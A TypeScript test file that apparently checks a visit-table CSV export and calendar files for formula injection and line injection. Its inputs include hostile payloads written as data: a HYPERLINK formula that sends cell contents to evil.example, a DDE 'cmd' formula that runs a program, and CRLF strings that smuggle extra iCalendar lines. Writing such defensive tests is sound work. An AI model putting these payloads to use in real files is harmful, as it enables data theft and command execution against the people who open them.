import { describe, expect, test } from 'vitest'
import { calendarFeed } from '@/lib/calendar/feed'
import { calendarFile } from '@/lib/messages/calendar'
import type { VisitShown } from '@/lib/violent-persons/visit-queries'
import { visitTable } from '@/lib/violent-persons/visit-table'

const visit = (typed: string): VisitShown =>
  ({
    ...{ forAt: new Date('2026-12-01T10:00:00Z'), address: typed, purpose: 'repair', who: typed },
    ...{ emergency: false, safely: [typed] },
  }) as unknown as VisitShown

/** The cells of the second line, as a spreadsheet reads them. */
const cells = (table: string) =>
  [...table.slice(table.indexOf('\r\n') + 2).matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) =>
    cell.replaceAll('""', '"'),
  )

describe('a formula in a table for a spreadsheet', () => {
  test.each([
    ...[
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      ' =1+1',
      '\u00a0=1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
    ],
    ...['=HYPERLINK("https://evil.example/?"&A1)', "=cmd|'/C calc'!A0", '","=1+1', '"\r\n"=1+1'],
  ])('%j is text in every cell it could stand in', typed => {
    const found = cells(visitTable([visit(typed)]))
    expect(found).toHaveLength(6)
    for (const cell of found) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
  })

  test('is looked for in no ordinary words', () => {
    expect(cells(visitTable([visit('4 Tarn Row – ring first')]))[1]).toBe('4 Tarn Row – ring first')
  })
})

describe('a line of its own in a calendar', () => {
  const injected = 'Call\r\nBEGIN:VEVENT\r\nSUMMARY:hate\nATTENDEE:mailto:x@evil.example'

  test('is not made by a title', () => {
    const file = calendarFile({ at: new Date('2026-12-01T10:00:00Z'), title: injected, seed: injected })
    expect(file.match(/^BEGIN:VEVENT/gm)).toHaveLength(1)
    expect(file).not.toMatch(/^(?:ATTENDEE|SUMMARY:hate)/m)
  })

  test('is not made by what is due', () => {
    const due = {
      id: injected,
      reading: { state: 'on_time' as const, at: new Date('2026-12-01T10:00:00Z'), late: false },
    }
    const feed = calendarFeed([due], 'https://beside.example')
    expect(feed.match(/^BEGIN:VEVENT/gm)).toHaveLength(1)
    expect(feed).not.toMatch(/^ATTENDEE/m)
  })
})
